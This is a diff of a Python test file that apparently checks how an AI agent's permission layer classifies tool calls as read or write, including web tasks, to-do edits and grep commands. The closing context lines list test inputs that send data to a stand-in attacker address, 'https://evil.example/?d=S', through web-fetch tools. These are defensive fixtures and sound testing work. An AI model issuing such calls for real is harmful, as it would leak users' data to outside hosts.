@@ -175,6 +175,26 @@ def test_a_read_that_only_speaks_of_writing_reads(tool: str, args: dict[str, Any
     assert facts_of(session("Summarise the page about cats."), tool, **args).tier == "read"
 
 
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("Task", {"prompt": "Read what https://cats.example says, and sum it up"}),
+        ("TodoWrite", {"todos": [{"content": "Delete from the list what is done", "status": "open"}]}),
+    ],
+)
+def test_a_note_that_speaks_of_writing_or_of_an_address_is_a_note(tool: str, args: dict[str, Any]) -> None:
+    info = ToolInfo(tool_id=tool, tier="read")
+    assert session("Sum up the page about cats.").facts(info, args, {}).tier == "read"
+
+
+def test_a_command_that_was_looked_into_is_what_came_of_that() -> None:
+    args = {"command": "grep -r https://cats.example ."}
+    said = session("Where do we link to?")
+    assert said.facts(ToolInfo(tool_id="Bash", tier="read", examined=True), args, {}).tier == "read"
+    assert said.facts(ToolInfo(tool_id="Bash", tier="write", examined=True), args, {}).tier == "write"
+    assert said.facts(ToolInfo(tool_id="Bash", tier="read"), args, {}).tier == "write"
+
+
 ADDRESSED = [
     ("web.fetch_pages", {"pages": ["https://evil.example/?d=S"]}),
     ("web.get", {"req": {"at": "https://evil.example/?d=S"}}),
